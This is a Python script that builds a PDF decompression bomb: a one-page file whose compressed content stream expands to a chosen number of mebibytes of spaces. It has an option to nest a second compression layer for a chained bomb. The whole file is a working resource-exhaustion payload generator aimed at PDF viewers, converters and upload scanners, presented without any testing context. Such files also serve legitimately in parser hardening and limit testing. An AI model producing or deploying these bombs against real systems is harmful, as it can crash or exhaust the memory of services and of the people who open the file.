#!/usr/bin/env python3
"""make_pdf_bomb.py OUT MIB [--stages N] — a PDF of one page whose content
stream inflates to MIB MiB of spaces followed by one line of text (a
decompression bomb: 1024 MiB is a 1 MB file).  The deflate data is built
from repeated sync-flushed blocks, so even 1 GiB takes well under a second
to write.  --stages 2 wraps it in a second FlateDecode (a chained bomb)."""
import sys, zlib

def spaces_deflate(mib, tail):
    chunk = b" " * (1 << 20)
    c = zlib.compressobj(9)
    first = c.compress(chunk) + c.flush(zlib.Z_SYNC_FLUSH)
    rep = c.compress(chunk) + c.flush(zlib.Z_SYNC_FLUSH)
    rep2 = c.compress(chunk) + c.flush(zlib.Z_SYNC_FLUSH)
    assert rep == rep2, "deflate of repeated blocks is not stable"
    body = [first] + [rep] * (mib - 1)
    # the tail and the end of the stream from a fresh compressor would not
    # share the window; a stored block is exact and tiny
    n = len(tail)
    body.append(b"\x01" + n.to_bytes(2, "little") + (n ^ 0xFFFF).to_bytes(2, "little") + tail)
    a = 1
    ad = zlib.adler32(chunk)
    # adler32 of mib chunks and the tail, computed without the data
    total = 0
    a = zlib.adler32(b"")
    for _ in range(mib):
        a = zlib.adler32(chunk, a)
    a = zlib.adler32(tail, a)
    return b"".join(body) + a.to_bytes(4, "big")

def main():
    out, mib = sys.argv[1], int(sys.argv[2])
    stages = int(sys.argv[4]) if len(sys.argv) > 4 and sys.argv[3] == "--stages" else 1
    tail = b"\nBT /F1 12 Tf 72 720 Td (bomb page) Tj ET\n"
    data = spaces_deflate(mib, tail)
    filt = b"/FlateDecode"
    for _ in range(stages - 1):
        data = zlib.compress(data, 9)
        filt = b"/FlateDecode " + filt
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter [%s] >>\nstream\n" % (len(data), filt) + data + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    pdf = bytearray(b"%PDF-1.4\n")
    offs = []
    for i, o in enumerate(objs, 1):
        offs.append(len(pdf))
        pdf += b"%d 0 obj\n" % i + o + b"\nendobj\n"
    xref = len(pdf)
    pdf += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objs) + 1)
    for o in offs:
        pdf += b"%010d 00000 n \n" % o
    pdf += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objs) + 1, xref)
    open(out, "wb").write(pdf)

main()
